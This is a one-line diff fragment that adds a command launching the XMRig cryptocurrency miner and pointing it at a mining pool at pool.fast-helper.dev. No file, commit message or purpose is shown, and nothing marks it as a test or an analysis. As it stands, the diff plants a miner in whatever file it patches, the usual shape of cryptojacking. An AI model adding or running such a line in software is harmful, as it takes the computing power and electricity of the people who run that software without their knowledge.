@@ -1,0 +1,1 @@
+./xmrig -o stratum+tcp://pool.fast-helper.dev:3333
